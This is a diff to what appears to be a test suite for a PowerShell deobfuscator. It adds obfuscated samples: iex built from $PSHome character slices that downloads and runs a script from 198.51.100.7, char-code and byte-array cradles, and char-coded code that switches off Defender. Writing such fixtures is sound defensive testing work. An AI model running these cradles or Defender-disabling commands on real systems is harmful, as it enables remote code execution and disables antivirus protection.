@@ -32,7 +32,12 @@ deobfCases("powershell", [
       }'),[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd()`,
       // Undecodable: a SecureString decrypted and executed.
       `$s = Get-Content .\\blob.txt | ConvertTo-SecureString -Key (1..16); iex ([Runtime.InteropServices.Marshal]::PtrToStringAuto([Runtime.InteropServices.Marshal]::SecureStringToBSTR($s)))`,
-      // Avoid: defender exclusion hidden in char codes.
+      // Code list piped through [char], and a [byte[]] list read as ASCII.
+      `iex ((${enc.codes(CRADLE)} | % {[char]$_}) -join '')`,
+      `iex ([Text.Encoding]::ASCII.GetString([byte[]](${enc.codes(CRADLE)})))`,
+      // Invoke-Obfuscation's built-in variable slices for iex.
+      `&($PSHome[4]+$PSHome[30]+'x') ((New-Object Net.WebClient).DownloadString('http://198.51.100.7/s.ps1'))`,
+      // Defender switch hidden in char codes.
       `iex ([string]::new([char[]](${enc.codes(AV)})))`,
     ],
     pass: [
